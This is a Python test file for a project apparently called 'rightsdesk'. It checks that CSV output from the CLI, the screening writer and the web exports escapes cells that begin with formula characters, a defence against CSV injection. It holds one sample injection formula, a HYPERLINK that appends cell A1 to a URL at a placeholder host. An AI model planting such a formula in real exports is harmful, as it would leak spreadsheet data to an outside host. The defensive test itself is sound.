"""CSV output never hands a spreadsheet a formula: screen-file's output, the CLI's --csv and the web's CSV
exports prefix a cell starting with =, +, - or @ with an apostrophe (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

from rightsdesk.cli.common import emit
from rightsdesk.cli.screening import write_csv
from rightsdesk.web.responses import export

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_screen_file_output_escapes_formulas(capsys: Any) -> None:
    write_csv([{"name": FORMULA, "note": "@SUM(1)"}], [2], [{"results": []}])
    rows = _cells(capsys.readouterr().out)
    assert rows[1][:2] == ["'" + FORMULA, "'@SUM(1)"]


def test_cli_csv_escapes_formulas(capsys: Any) -> None:
    emit([{"name": "+1+1", "names": ["-2", "x"], "count": -3}], as_csv=True)
    rows = _cells(capsys.readouterr().out)
    assert rows[1] == ["'+1+1", "'-2; x", "-3"]  # a number stays a number


def test_web_csv_export_escapes_formulas() -> None:
    body = export([{"name": FORMULA, "plain": "KIM"}], "csv", "designations").body
    rows = _cells(bytes(body).decode())
    assert rows[1] == ["'" + FORMULA, "KIM"]
